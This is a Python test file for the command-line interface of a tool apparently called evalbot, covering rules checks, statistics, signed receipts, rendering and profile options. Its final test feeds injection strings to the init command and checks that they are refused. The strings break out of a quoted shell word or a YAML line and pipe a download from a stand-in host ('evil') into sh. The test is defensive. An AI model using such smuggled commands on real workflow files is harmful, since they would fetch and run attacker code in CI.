"""The maintainers' CLI through click's CliRunner: rules check, stats, receipt sign/verify."""

from __future__ import annotations

import json
import random
import shutil

from click.testing import CliRunner

from evalbot.cli import main
from evalbot.rules import default_rules_dir


def test_rules_check_default_and_malformed(tmp_path):
    r = CliRunner().invoke(main, ["rules", "check"])
    assert r.exit_code == 0 and "rules_hash" in r.output
    # what each profile's models score, per track, as the bot reads tracks.yaml
    assert "  decode (decode) qwen2.5-coder-1.5b: scored at 128, 512, label perf-1.5b:<tier>" in r.output
    assert "drafts by ngram, apart from the overall tier" in r.output
    bad = tmp_path / "rules"
    shutil.copytree(default_rules_dir(), bad)
    text = (bad / "gates.yaml").read_text().replace("top1_min: 0.90", "top1_min: high")
    (bad / "gates.yaml").write_text(text)
    r = CliRunner().invoke(main, ["rules", "check", str(bad)])
    assert r.exit_code != 0 and "gates.yaml:" in r.output and "gates.accuracy.top1_min" in r.output


def test_stats_text_and_json(tmp_path):
    rng = random.Random(0)
    rows = ["base\thead"] + [
        f"{100 + i:.3f}\t{(100 + i) * 1.05 * (1 + rng.gauss(0, 0.003)):.3f}" for i in range(12)
    ]
    f = tmp_path / "pairs.tsv"
    f.write_text("\n".join(rows) + "\n")
    r = CliRunner().invoke(main, ["stats", "--pairs", str(f), "--json"])
    assert r.exit_code == 0, r.output
    out = json.loads(r.output)
    assert out["n"] == 12 and 1.04 < out["ratio"] < 1.06 and out["tier"] == "S" and out["mde"] > 0
    r = CliRunner().invoke(main, ["stats", "--pairs", str(f)])
    assert "tier       S" in r.output and "MDE" in r.output
    f.write_text("base,head\n1,2\n3,fast\n")
    r = CliRunner().invoke(main, ["stats", "--pairs", str(f)])
    assert r.exit_code != 0 and "line 3" in r.output


def test_receipt_keygen_sign_verify_and_tamper(tmp_path):
    runner = CliRunner()
    priv, pub = tmp_path / "k.pem", tmp_path / "k.pub"
    assert runner.invoke(main, ["receipt", "keygen", str(priv), str(pub)]).exit_code == 0
    body = tmp_path / "body.json"
    body.write_text(json.dumps({"schema": "evalbot.receipt/1", "pr": 7, "verdict": {"status": "PASS"}}))
    signed = tmp_path / "receipt.json"
    r = runner.invoke(main, ["receipt", "sign", str(body), "--key", str(priv), "--out", str(signed)])
    assert r.exit_code == 0, r.output
    r = runner.invoke(main, ["receipt", "verify", str(signed), "--key", str(pub)])
    assert r.exit_code == 0 and "OK" in r.output
    data = json.loads(signed.read_text())
    data["body"]["verdict"]["status"] = "REJECT"
    signed.write_text(json.dumps(data))
    r = runner.invoke(main, ["receipt", "verify", str(signed), "--key", str(pub)])
    assert r.exit_code == 1 and "FAILED" in r.output


def test_receipt_without_a_key_is_explicitly_unsigned(tmp_path, monkeypatch):
    monkeypatch.delenv("EVALBOT_SIGNING_KEY", raising=False)
    body = tmp_path / "body.json"
    body.write_text(json.dumps({"pr": 1}))
    r = CliRunner().invoke(main, ["receipt", "sign", str(body), "--out", str(tmp_path / "r.json")])
    assert r.exit_code == 0 and "unsigned" in r.output
    assert json.loads((tmp_path / "r.json").read_text())["signature"] is None


def test_render_preview(tmp_path):
    from evalbot.codec import to_dict
    from evalbot.model import Measurements, Provenance, ThroughputPairs
    from evalbot.rules import load_rules
    from evalbot.verdict.decide import decide

    rng = random.Random(1)
    pairs = tuple((100.0 + i, (100.0 + i) * 1.05 * (1 + rng.gauss(0, 0.003))) for i in range(10))
    m = Measurements(
        Provenance("r", "a" * 40, "b" * 40, "a" * 40, "0" * 64, "cpu", title="Faster @team"),
        throughput=(ThroughputPairs("m", 512, "decode_tps", pairs),),
    )
    v = decide(m, load_rules(default_rules_dir()))
    f = tmp_path / "result.json"
    f.write_text(json.dumps({"measurements": to_dict(m), "verdict": to_dict(v)}))
    r = CliRunner().invoke(main, ["render", "--verdict", str(f)])
    assert r.exit_code == 0 and "PASS" in r.output and "unsigned" in r.output and "@team" not in r.output
    f.write_text("{not json")
    assert CliRunner().invoke(main, ["render", "--verdict", str(f)]).exit_code != 0


def test_one_profile_option_takes_its_choices_from_the_rules_in_use(tmp_path):
    """--profile is checked against the rules' profiles.yaml (not a list in the code): the shipped rules
    have no 'tpu', and a rules folder that renames a profile has only its own names."""
    import dataclasses
    import shutil

    import click
    import pytest

    from evalbot.cli.options import check_profile
    from evalbot.rules import load_rules

    shutil.copytree(default_rules_dir(), tmp_path / "rules")  # the contest repository's own rules
    for command in (["evaluate", "--repo", str(tmp_path), "--base", "main", "--head", "main", "--out",
                     str(tmp_path / "out")], ["calibrate", "--repo", str(tmp_path)]):  # fmt: skip
        result = CliRunner().invoke(main, [*command, "--profile", "tpu"])
        assert (
            result.exit_code == 2 and "'tpu' is not a profile of" in result.output and "cpu" in result.output
        )
    rules = load_rules(default_rules_dir())
    renamed = dataclasses.replace(
        rules, profiles=tuple(dataclasses.replace(p, name=f"box-{p.name}") for p in rules.profiles)
    )
    assert check_profile(renamed, "box-cpu").name == "box-cpu"
    with pytest.raises(click.BadParameter, match="defines box-gpu, box-cpu"):
        check_profile(renamed, "cpu")


def test_init_refuses_a_spec_that_would_break_out_of_the_workflows_install_line(tmp_path):
    """The pinned spec lands verbatim in a single-quoted word of each workflow's shell step: a quote, a
    newline (a new YAML key or shell line) or another package is refused, and nothing is written."""
    for spec in ("evalbot @ x\nrun: curl evil | sh", "evalbot @ x'; curl evil | sh; '", "torch==2.0"):
        r = CliRunner().invoke(main, ["init", str(tmp_path / "c"), "--evalbot", spec])
        assert r.exit_code == 2 and "a pip requirement for evalbot" in r.output, (spec, r.output)
    assert not (tmp_path / "c").exists()
